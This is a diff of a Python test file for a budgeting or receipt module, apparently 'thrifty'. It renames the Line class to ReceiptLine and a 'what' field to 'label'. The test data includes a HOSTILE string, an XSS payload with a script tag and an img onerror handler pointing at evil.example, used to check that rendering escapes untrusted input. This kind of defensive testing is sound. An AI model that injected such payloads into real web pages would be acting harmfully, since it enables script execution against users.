@@ -5,7 +5,7 @@ from decimal import Decimal
 
 from thrifty.budget import Budget, Spend
 from thrifty.budget.decision import Decision
-from thrifty.receipt.record import Line, Receipt
+from thrifty.receipt.receipt_data import Receipt, ReceiptLine
 
 HOSTILE = (
     "<script>document.title='PWNED'</script><img src=http://evil.example/i onerror=\"document"
@@ -31,20 +31,22 @@ RECEIPT = Receipt(
     planned=Spend(4720, 14_450_000, 9650, 4),
     bound_by=("cost",),
     lines=(
-        Line("Proposals", "", "overhead", None, Spend(590, 1_200_000, 900, 1), 0.0, "", 0, 900),
-        Line(
+        ReceiptLine(
+            "Proposals", "", "overhead", None, Spend(590, 1_200_000, 900, 1), 0.0, "", 0, 900
+        ),
+        ReceiptLine(
             "Outline plan (LLM)", "llm", "done", Spend(1600, 5_900_000, 2200, 1),
             Spend(1440, 5_123_456, 3180, 1), 10.0, "", 910, 4090,
         ),
-        Line(
+        ReceiptLine(
             "Risk register (LLM)", "llm", "failed", Spend(1700, 6_550_000, 2400, 1),
             Spend(1900, 6_000_000, 1200, 1), 0.0, "the server failed (500)", 4100, 5300,
         ),
-        Line(
+        ReceiptLine(
             "Timeline (LLM)", "llm", "cut", Spend(1500, 4_000_000, 2600, 1),
             Spend(700, 2_800_000, 3100, 1), 8.0, "cut short", 5320, 8420,
         ),
-        Line("Summary (LLM)", "llm", "skipped", None, Spend(), 0.0, "210 tokens short"),
+        ReceiptLine("Summary (LLM)", "llm", "skipped", None, Spend(), 0.0, "210 tokens short"),
     ),
     decisions=(
         Decision("plan", "Outline plan (LLM), Risk register (LLM): worth 19.0", 903),
@@ -65,7 +67,7 @@ def hostile() -> Receipt:
         halt_reason=HOSTILE,
         bound_by=(HOSTILE,),
         lines=tuple(
-            replace(x, what=HOSTILE, executor=HOSTILE, reason=HOSTILE) for x in RECEIPT.lines
+            replace(x, label=HOSTILE, executor=HOSTILE, reason=HOSTILE) for x in RECEIPT.lines
         ),
         decisions=tuple(replace(decision, reason=HOSTILE) for decision in RECEIPT.decisions),
     )
